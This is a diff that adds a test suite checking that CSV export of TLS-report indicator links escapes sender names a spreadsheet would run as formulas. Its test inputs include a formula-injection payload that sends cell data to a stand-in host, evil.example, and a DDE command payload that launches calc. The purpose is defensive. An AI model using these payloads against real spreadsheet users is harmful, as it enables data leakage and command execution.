@@ -197,6 +197,35 @@ describe("indicators links", () => {
   });
 });
 
+describe("indicators links as CSV", () => {
+  const row = (sender: string): LinkRow => ({
+    day: "2026-12-01",
+    sender: { key: `d:${sender}`, organisationId: null, label: sender },
+    receiver: { key: "o:2", organisationId: 2, label: "Beta, DSI" },
+    source: "tlsrpt",
+    sessions: 1,
+    classes: { verified: 1, trusted: 0, untrusted: 0, anonymous: 0, none: 0 },
+    outcomes: { successful: 1 },
+    failures: {},
+    versions: {},
+    suites: {},
+    verifiedShare: 1,
+  });
+  const cells = (sender: string) =>
+    (linksCsv(linksDocument("2026-12-01", "2026-12-01", [row(sender)])).split("\r\n")[1] ?? "").split(",");
+  it("a name a spreadsheet would run as a formula is written as text; RFC 4180 quoting kept", () => {
+    expect(cells('=HYPERLINK("https://evil.example/?"&A1)')[1]).toBe(
+      '"\'=HYPERLINK(""https://evil.example/?""&A1)"',
+    );
+    expect(cells("+1+cmd|' /C calc'!A0")[1]).toBe("'+1+cmd|' /C calc'!A0");
+    expect(cells("-2+3")[1]).toBe("'-2+3");
+    expect(cells("@SUM(1)")[1]).toBe("'@SUM(1)");
+    expect(cells("\t=1")[1]).toBe("'\t=1");
+    expect(cells("Google Inc.")[1]).toBe("Google Inc.");
+    expect(cells("Google Inc.").slice(2, 4)).toEqual(['"Beta', ' DSI"']);
+  });
+});
+
 describe("art. 4.4 from evidence (pure)", () => {
   const base: Art44Row = {
     peer: "P",
